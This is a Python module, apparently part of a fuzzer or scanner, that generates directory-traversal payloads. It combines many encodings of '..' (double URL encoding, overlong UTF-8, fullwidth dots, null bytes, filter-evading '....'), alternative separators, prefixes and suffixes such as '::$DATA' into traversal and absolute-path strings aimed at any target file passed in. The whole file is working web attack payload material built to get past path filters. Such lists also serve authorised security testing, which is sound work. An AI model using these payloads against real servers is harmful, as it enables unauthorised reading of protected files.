"""Every way we know to spell "out of this folder", built from its parts."""

from collections.abc import Iterator
from itertools import product

# One step up, or what some server somewhere took for one.
UP = [
    "..",
    "%2e%2e",
    "%2E.",
    ".%2e",
    "%252e%252e",  # encoded twice
    "%25252e%25252e",
    "%c0%ae%c0%ae",  # overlong UTF-8: two bytes for a dot, then three
    "%e0%80%ae%e0%80%ae",
    "%u002e%u002e",  # a code that no standard has
    "\uff0e\uff0e",  # a dot as wide as a Korean letter, and the same encoded
    "%ef%bc%8e%ef%bc%8e",
    "....",  # survives a filter that removes ".." once
    "..;",  # a parameter of the segment
    "..%00",
    ".%0d.",
    ".. ",  # Windows drops what follows the dots
    "...",
]
SEPARATORS = ["/", "%2f", "\\", "%5c", "%252f", "%255c", "%c0%af", "%c1%9c", "//", "/./", "\uff0f"]
STARTS = ["/", "/images/", "", "//", "/%2f", "/\\", "/menu/./", "/~/"]
ENDINGS = ["", "%00", "%00.html", "%20", "/", "/.", "::$DATA", "%0a", "#", "."]


def climbs(*targets: str, most_steps: int = 3) -> Iterator[str]:
    """Each spelling of a climb to each target, by one step to `most_steps`."""
    for start, up, separator, target in product(STARTS, UP, SEPARATORS, targets):
        for steps in range(1, most_steps + 1):
            yield start + (up + separator) * steps + target
    for ending, target, steps in product(ENDINGS, targets, range(1, most_steps + 1)):
        yield "/" + "%2e%2e/" * steps + target + ending


def absolutes(file: str) -> Iterator[str]:
    """Each spelling of a file's whole path, where a path below a folder is expected."""
    name = file.removeprefix("/")
    for start in ["/", "//", "/%2f", "%2f", "///", "/\\", "/%5c", "/C:/", "/C%3a%5c", "/C:"]:
        yield start + name
        yield start + name.replace("/", "%2f")
        yield start + name.replace("/", "\\")
    yield from (f"file://{file}", f"/file:{file}", f"\\\\localhost\\C$\\{name}", f"/images{file}")
